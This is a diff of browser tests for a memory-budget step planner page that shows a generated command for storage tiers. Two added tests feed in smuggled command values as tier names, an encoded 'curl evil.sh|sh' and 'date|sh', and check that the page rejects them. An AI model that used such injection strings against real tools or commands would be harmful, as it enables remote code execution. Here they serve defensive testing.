@@ -189,6 +189,34 @@ def test_an_address_that_is_not_understood_is_the_start(opened):
     assert settle(page).startswith("200 steps in 48 MiB")
 
 
+@pytest.mark.parametrize(
+    "names",
+    ["ssd%3Bcurl%20evil.sh%7Csh", "work", "ssd,fast", "ssd,ssd", "1", "-x", ",".join(f"t{i}" for i in range(31))],
+)
+def test_names_of_tiers_in_an_address_are_those_that_a_command_can_have(opened, names):
+    page = opened("tier", f"#tiers={names}&steps=100")
+    assert list(expect_as_planned(page)["moved"]) == ["ssd"]
+    assert "tiers" not in page.evaluate("location.hash")
+
+
+def test_a_tier_whose_name_is_none_for_a_shell_has_no_command(browser, made, tmp_path):
+    text = made("tier").read_text().replace('"name":"ssd"', '"name":"ssd;date|sh"')
+    (tmp_path / "page.html").write_text(text)
+    page = browser.new_page()
+    page.goto(f"{(tmp_path / 'page.html').as_uri()}#steps=100")
+    assert settle(page).startswith("100 steps")
+    assert not page.locator(".command").is_visible() and page.locator(".command code").inner_text() == ""
+    page.close()
+
+
+def test_skipping_to_the_page_keeps_the_setting_in_the_address(opened):
+    page = opened("plain", "#steps=100")
+    settle(page)
+    page.locator(".skip").focus()
+    page.keyboard.press("Enter")
+    assert page.evaluate("[location.hash, document.activeElement.id]") == ["#steps=100", "page"]
+
+
 def test_tiers_come_and_go(opened):
     page = opened("plain")
     page.locator("#add-tier").click()
@@ -226,10 +254,22 @@ def test_what_does_not_fit_says_what_would(opened):
     page = opened("plain")
     say(page, "budget", "2MiB")
     assert "it needs at least" in settle(page)
-    assert not page.locator(".figures").is_visible()
-    say(page, "budget", "40MiB")
+    assert page.locator("h1").inner_text() == page.title() == "300 steps in 2 MiB: does not fit"
+    outdated = page.get_by_text("Below is the last plan that fits: 300 steps in 60 MiB")
+    assert outdated.is_visible() and page.locator(".figures").is_visible()
+    page.get_by_role("button", name="Use 6 MiB").click()
+    assert field(page, "budget").input_value() == "6MiB"
+    assert page.evaluate("document.activeElement.id") == "field-budget"
     expect_as_planned(page)
-    assert page.locator(".figures").is_visible()
+    assert not outdated.is_visible() and page.locator(".figures").is_visible()
+
+
+def test_slots_that_do_not_fit_say_what_would(opened):
+    page = opened("slots", "#steps=100&slots=0")
+    assert "it needs at least 1 slot" in settle(page)
+    assert page.locator("h1").inner_text() == "100 steps in 0 slots: does not fit"
+    page.get_by_role("button", name="Use 1 slot").click()
+    expect_as_planned(page)
 
 
 def test_what_is_not_understood_is_said(opened):
@@ -237,11 +277,34 @@ def test_what_is_not_understood_is_said(opened):
     for name, text in (("budget", "lots"), ("steps", "1.5"), ("steps", ""), ("forward", "-1"), ("state", "no limit")):
         good = field(page, name).input_value()
         say(page, name, text)
-        assert "is not understood" in page.locator(".says").inner_text()
+        assert "is not understood" in page.locator(".faults").inner_text()
         assert field(page, name).get_attribute("aria-invalid") == "true"
         say(page, name, good)
         assert field(page, name).get_attribute("aria-invalid") is None
+        assert page.locator(".faults").inner_text() == ""
     expect_as_planned(page)
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [("forward", "1e400"), ("forward", "1e300"), ("budget", "1e300"), ("steps", "1e19"), ("ssd.write", "1e300")],
+)
+def test_numbers_beyond_the_planners_are_not_understood(opened, name, text):
+    page = opened("tier")
+    before = page.locator(".command code").inner_text()
+    say(page, name, text)
+    assert "is not understood" in page.locator(".faults").inner_text()
+    assert page.locator(".command code").inner_text() == before
+
+
+def test_other_fields_are_planned_beside_one_that_is_not_understood(opened):
+    page = opened("plain")
+    say(page, "steps", "1,000")
+    slider(page, "budget").focus()
+    page.keyboard.press("ArrowRight")
+    assert settle(page).startswith("300 steps in ")
+    assert 'Steps: "1,000" is not understood' in page.locator(".faults").inner_text()
+    assert field(page, "steps").input_value() == "1,000"
 
 
 def test_sliders_never_wait_for_the_planner(opened):
